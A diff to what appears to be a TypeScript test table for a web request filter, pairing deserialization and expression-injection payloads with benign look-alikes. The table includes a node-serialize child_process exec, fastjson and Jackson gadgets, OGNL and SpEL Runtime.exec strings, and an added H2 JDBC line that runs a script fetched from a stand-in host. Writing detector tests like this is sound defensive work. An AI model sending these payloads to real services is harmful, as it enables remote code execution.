@@ -26,6 +26,7 @@ const CASES: Array<[number, 'block' | 'suspicious', string, RequestSpec, Request
   [9001006, 'block', 'a base64 Java object', form('state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'), form('state=xrO0ABXzzq1')],
   [9001006, 'block', 'a node-serialize function', json('{"u":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'), json('{"u":"ND_FUNC is a constant"}')],
   [9001007, 'block', 'a fastjson @type gadget', json('{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.test/a"}}'), json('{"@type":"Person","name":"Ada"}')],
+  [9001007, 'block', 'a Jackson wrapper-array logback JDBC gadget', json('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://x.test/a.sql\'"}]'), json('["ch.qos.logback.core.db", "a package name in a list"]')],
   [9001008, 'suspicious', 'a reflection class name', q('c=java.lang.Runtime'), q('q=java+runtime+environment')],
   [9001305, 'block', 'OGNL member access', header('Content-Type', "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"), header('X-Note', 'member access (see #_docs)')],
   [9001306, 'block', 'SpEL reaching Runtime', q('sort=%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D'), q('q=T(n)+%3D+2T(n%2F2)+%2B+n')],
